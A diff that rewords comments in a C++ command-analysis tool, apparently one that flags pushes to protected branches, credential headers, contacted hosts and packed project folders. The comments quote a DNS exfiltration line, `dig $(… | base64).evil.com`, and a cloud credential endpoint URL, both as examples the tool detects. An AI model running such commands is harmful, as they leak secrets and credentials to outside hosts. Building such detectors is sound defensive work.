@@ -20,7 +20,7 @@
 namespace pawl {
 namespace {
 
-// Branches that others build on; a ref that is not told counts as one.
+// Branches that others build on. A ref that is not named counts as one.
 [[nodiscard]] bool names_protected_branch(std::string_view ref) {
   if (ref.starts_with('+')) ref.remove_prefix(1);
   const std::size_t colon = ref.rfind(':');
@@ -48,8 +48,8 @@ namespace {
   return {};
 }
 
-// A header such as `Authorization: …` or `X-Api-Key: …` proves who asks; any other one is only said.
-// A `field` needs no blank behind the colon.
+// A header such as `Authorization: …` or `X-Api-Key: …` proves who asks; other headers only say something. A `field`
+// needs no blank behind the colon.
 [[nodiscard]] bool proves_who_asks(std::string_view header, bool is_field) {
   const std::size_t colon = header.find(':');
   if (colon == std::string_view::npos) return true;  // `user:password` has one, a cookie need not
@@ -62,7 +62,7 @@ namespace {
                      [&](std::string_view part) { return name.find(part) != std::string::npos; });
 }
 
-// httpie's `Name:value`; `name:=1` is a field of the body, `name==x` and `name=a:b` are none either.
+// httpie's `Name:value`; `name:=1` is a field of the body, `name==x` and `name=a:b` are not headers either.
 [[nodiscard]] bool is_header_field(std::string_view text) {
   const std::size_t sign = text.find_first_of("@=:/ ");
   return sign != std::string_view::npos && sign > 0 && text[sign] == ':' &&
@@ -287,7 +287,7 @@ void StepReader::note_host(const Argument& argument) {
                         (argument.text.find("://") != std::string::npos &&
                          host.find_first_of("$`") == std::string::npos && host.find("…") == std::string::npos &&
                          argument.text.find_first_of("/?#", argument.text.find("://") + 3) != std::string::npos);
-  // `http://169.254.170.2$PATH`: behind a whole address comes a port or a path.
+  // `http://169.254.170.2$PATH`: a port or a path follows a whole address.
   const std::string address = is_known ? std::string() : address_in_front(argument.text);
   const std::string& name = is_known ? host : address.empty() ? argument.text : address;
   // `dig $(… | base64).evil.com`: the name itself is the message.
@@ -312,7 +312,7 @@ void StepReader::take_path(EffectKind kind, const Argument& argument, std::strin
   Sources found = sources_by_class(effect.classes);
   const auto written = context_.files->written.find(effect.object);
   if (written != context_.files->written.end()) found |= written->second;
-  // `tar xzf x-*.tgz`: what this call put there is meant as well.
+  // `tar xzf x-*.tgz`: files that this call put there match as well.
   if (effect.attributes.has(Attribute::wildcard)) {
     for (const auto& [path, sources] : context_.files->written) {
       if (!sources.is_empty() && matches_glob(effect.object, path)) found |= sources;
@@ -324,7 +324,7 @@ void StepReader::take_path(EffectKind kind, const Argument& argument, std::strin
     found |= Source::secret | Source::key;
   const bool is_read_whole = kind == EffectKind::read &&
                              (effect.attributes & (Attribute::recursive | Attribute::shown)) == Attribute::recursive;
-  // Who packs a folder of the project, or what nobody can see, packs more than one file that was meant.
+  // Packing a folder of the project, or one that is not known, packs more than one chosen file.
   const bool is_packed = argument.role == Role::read &&
                          effect.classes.has_any(PathClass::project | PathClass::unknown) &&
                          !effect.classes.has(PathClass::regenerable);
